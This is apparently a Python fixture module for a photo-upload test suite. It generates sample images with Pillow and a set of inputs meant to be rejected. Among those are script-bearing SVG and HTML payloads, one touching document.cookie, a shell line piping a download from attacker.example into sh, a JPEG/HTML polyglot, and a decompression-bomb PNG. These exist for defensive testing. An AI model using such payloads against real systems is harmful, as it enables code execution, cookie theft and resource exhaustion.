"""Images the photos tests upload, made with Pillow on the spot: a phone-like
JPEG with GPS and orientation tags, PNG and WebP, and every kind of refusal
(markup, truncation, a decompression bomb, a polyglot)."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image, ImageCms
from PIL.ExifTags import GPS, IFD, Base

GPS_LATITUDE = (48.0, 51.0, 29.11)


def phone_jpeg(
    width: int = 640,
    height: int = 480,
    orientation: int = 6,
    quality: int = 90,
    noise: float = 0.0,
) -> bytes:
    """A JPEG as a phone writes it: EXIF with GPS coordinates, camera make and
    an orientation tag (6: the pixels must be turned 90 degrees clockwise),
    and an ICC profile. The left half red, the right half blue, so a test can
    tell which way it was turned."""
    image = Image.new("RGB", (width, height), (220, 20, 20))
    image.paste((20, 20, 220), (width // 2, 0, width, height))
    if noise:  # phone-sized bytes: noise compresses badly, as real photos do
        image = Image.blend(image, Image.effect_noise((width, height), 64).convert("RGB"), noise)
    exif = Image.Exif()
    exif[Base.Make] = "RunwayPhone"
    exif[Base.Orientation] = orientation
    gps = exif.get_ifd(IFD.GPSInfo)
    gps[GPS.GPSLatitudeRef] = "N"
    gps[GPS.GPSLatitude] = GPS_LATITUDE
    gps[GPS.GPSLongitudeRef] = "E"
    gps[GPS.GPSLongitude] = (2.0, 17.0, 40.0)
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(out, "JPEG", quality=quality, exif=exif, icc_profile=srgb)
    return out.getvalue()


def png_rgba(width: int = 400, height: int = 300) -> bytes:
    image = Image.new("RGBA", (width, height), (0, 128, 0, 128))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def png_rgb(width: int = 3000, height: int = 1000) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (10, 200, 30)).save(out, "PNG")
    return out.getvalue()


def webp(width: int = 500, height: int = 500) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 200, 30)).save(out, "WEBP", quality=80)
    return out.getvalue()


def cmyk_jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("CMYK", (200, 100), (0, 255, 255, 0)).save(out, "JPEG")
    return out.getvalue()


def palette_png() -> bytes:
    image = Image.new("P", (120, 80), 3)
    image.info["transparency"] = 0
    out = io.BytesIO()
    image.save(out, "PNG", transparency=0)
    return out.getvalue()


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"


def truncated_jpeg() -> bytes:
    data = phone_jpeg(800, 600, noise=0.3)
    return data[: len(data) // 2]


def polyglot_jpeg() -> bytes:
    """A valid JPEG with an HTML document riding after its end."""
    return phone_jpeg(64, 64) + HTML


def bomb_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG whose header says 10 gigapixels of greyscale (its IDAT holds
    only a few rows): decoding it would need 10 GB."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (width + 1) * 4, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def exif_of(data: bytes) -> Image.Exif:
    with Image.open(io.BytesIO(data)) as image:
        return image.getexif()
